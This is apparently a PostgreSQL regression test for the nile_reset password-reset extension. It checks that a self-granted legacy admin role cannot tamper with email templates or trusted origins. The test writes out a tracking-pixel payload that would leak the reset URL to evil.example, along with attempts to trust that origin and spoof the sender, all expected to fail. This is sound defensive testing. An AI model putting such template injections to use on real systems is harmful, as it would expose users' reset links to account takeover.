-- 0.2.0 kept its administrators in the cluster-wide role nile_reset_admin,
-- created or adopted by every install: its members administered nile_reset
-- in every database that had it, and a role that could create roles could
-- create it first and grant it to itself. An install now neither creates
-- nor uses it: whoever can grant it, and its members, administer nothing
-- (the update from 0.2.0 keeps it only where it administered, see
-- tests/upgrade.sh). Roles are cluster-wide and another database may still
-- use it, so the test makes sure it exists and leaves it, without members.
\set VERBOSITY terse
DROP EXTENSION IF EXISTS nile_reset CASCADE;
DROP ROLE IF EXISTS regress_squatter;
DROP ROLE IF EXISTS regress_old_admin;
DO $$
BEGIN
    IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'nile_reset_admin') THEN
        CREATE ROLE nile_reset_admin NOLOGIN;
    END IF;
END
$$;
CREATE ROLE regress_squatter CREATEROLE;
GRANT nile_reset_admin TO regress_squatter WITH ADMIN OPTION;
CREATE ROLE regress_old_admin IN ROLE nile_reset_admin;

-- Installed (0.2.0 refused this with 42501), and nile_reset_admin has
-- nothing here.
CREATE EXTENSION nile_reset;
SELECT extname FROM pg_extension WHERE extname = 'nile_reset';
SELECT count(*) AS grants_to_nile_reset_admin
  FROM pg_depend d
  LEFT JOIN pg_proc p ON d.classid = 'pg_proc'::regclass AND p.oid = d.objid
  LEFT JOIN pg_class c ON d.classid = 'pg_class'::regclass AND c.oid = d.objid,
       aclexplode(COALESCE(p.proacl, c.relacl)) a
 WHERE d.refobjid = (SELECT oid FROM pg_extension WHERE extname = 'nile_reset')
   AND d.deptype = 'e' AND a.grantee = 'nile_reset_admin'::regrole;
SELECT has_schema_privilege('nile_reset_admin', 'nile_reset', 'USAGE') AS uses_state_schema;

-- The squatter grants itself the role; it, and an old member, can change
-- no template and trust no origin (42501).
SET ROLE regress_squatter;
GRANT nile_reset_admin TO regress_squatter;
UPDATE nile_reset.email_templates SET body = '<img src="https://evil.example/pixel.gif?l=${api_url}">'
 WHERE name = 'password_reset';
\echo :LAST_ERROR_SQLSTATE
SELECT auth.add_trusted_origin('https://evil.example');
\echo :LAST_ERROR_SQLSTATE
RESET ROLE;
SET ROLE regress_old_admin;
UPDATE nile_reset.email_templates SET sender = 'evil@example.com' WHERE name = 'password_reset';
\echo :LAST_ERROR_SQLSTATE
RESET ROLE;
SELECT count(*) AS edited_templates FROM nile_reset.email_templates WHERE NOT is_default;

DROP EXTENSION nile_reset;
-- CASCADE: PostgreSQL 16+ also revokes the grant the squatter made with it.
REVOKE nile_reset_admin FROM regress_squatter CASCADE;
DROP ROLE regress_squatter;
DROP ROLE regress_old_admin;
